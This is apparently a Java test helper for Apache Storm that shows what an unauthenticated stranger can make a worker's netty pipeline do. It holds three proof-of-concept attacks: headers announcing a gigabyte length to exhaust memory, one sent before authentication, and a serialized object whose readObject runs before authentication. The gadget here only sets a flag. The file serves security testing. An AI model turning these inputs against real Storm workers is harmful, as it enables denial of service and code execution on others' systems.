package org.apache.storm.messaging.netty;

import java.io.ObjectInputStream;
import java.io.Serializable;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ConcurrentHashMap;
import org.apache.storm.Config;
import org.apache.storm.serialization.KryoValuesSerializer;
import org.apache.storm.shade.io.netty.buffer.ByteBuf;
import org.apache.storm.shade.io.netty.buffer.Unpooled;
import org.apache.storm.shade.io.netty.channel.embedded.EmbeddedChannel;
import org.apache.storm.utils.Utils;

/**
 * What a stranger can have a worker do who reaches its port; the worker's own pipeline takes what the stranger sends. It is in upstream's
 * package, since the pipeline is not public.
 */
public final class DecoderAttack {

    private static final int TASK = 1;
    private static final int LENGTH = 1 << 30;
    /** With authentication and without; closing one takes seconds, so that they end with the tests. */
    private static final Map<Boolean, Server> SERVERS = new ConcurrentHashMap<>();

    private DecoderAttack() {
    }

    /** Whether the connection is still open after a stranger sent this. */
    public static boolean takes(boolean authentication, ByteBuf... sent) {
        Map<String, Object> conf = conf(authentication);
        Server server = SERVERS.computeIfAbsent(authentication, any -> new Server(conf, 0, messages -> { }, null));
        EmbeddedChannel channel = new EmbeddedChannel(new StormServerPipelineFactory(conf, server, null));
        for (int i = 0; i < sent.length && channel.isOpen(); i++) {
            channel.writeInbound(sent[i]);
        }
        return channel.isOpen();
    }

    /** A message's head that announces this length. */
    public static ByteBuf head(int code, int lengthBytes) {
        return Unpooled.buffer().writeShort(code).writeInt(lengthBytes);
    }

    private static Map<String, Object> conf(boolean authentication) {
        Map<String, Object> conf = new HashMap<>(Utils.readDefaultConfig());
        conf.put(Config.STORM_MESSAGING_NETTY_AUTHENTICATION, authentication);
        conf.put(Config.STORM_ZOOKEEPER_TOPOLOGY_AUTH_PAYLOAD, "user:secret");
        conf.put(Config.TOPOLOGY_NAME, "topology");
        conf.put(Config.TOPOLOGY_FALL_BACK_ON_JAVA_SERIALIZATION, true);
        return conf;
    }

    /** Has a worker wait for a gigabyte, and keep what comes of it. */
    public static final class Length implements Callable<Boolean> {
        @Override
        public Boolean call() {
            return takes(false, head(TASK, LENGTH), Unpooled.buffer().writeZero(100_000));
        }
    }

    /** Has a worker wait for a gigabyte before it knows who sends it. */
    public static final class Token implements Callable<Boolean> {
        @Override
        public Boolean call() {
            return takes(true, head(SaslMessageToken.IDENTIFIER, LENGTH), Unpooled.buffer().writeZero(100_000));
        }
    }

    /** Has a worker deserialize an object before it knows who sends it; returns whether the object's code was run. */
    public static final class Gadget implements Callable<Boolean> {
        @Override
        public Boolean call() {
            byte[] gadget = new KryoValuesSerializer(conf(true)).serializeObject(new Trigger());
            Trigger.pulled = false;
            takes(true, head(BackPressureStatus.IDENTIFIER, gadget.length).writeBytes(gadget));
            return Trigger.pulled;
        }
    }

    private static final class Trigger implements Serializable {
        private static final long serialVersionUID = 1;
        private static volatile boolean pulled;

        private void readObject(ObjectInputStream in) {
            pulled = true;
        }
    }
}
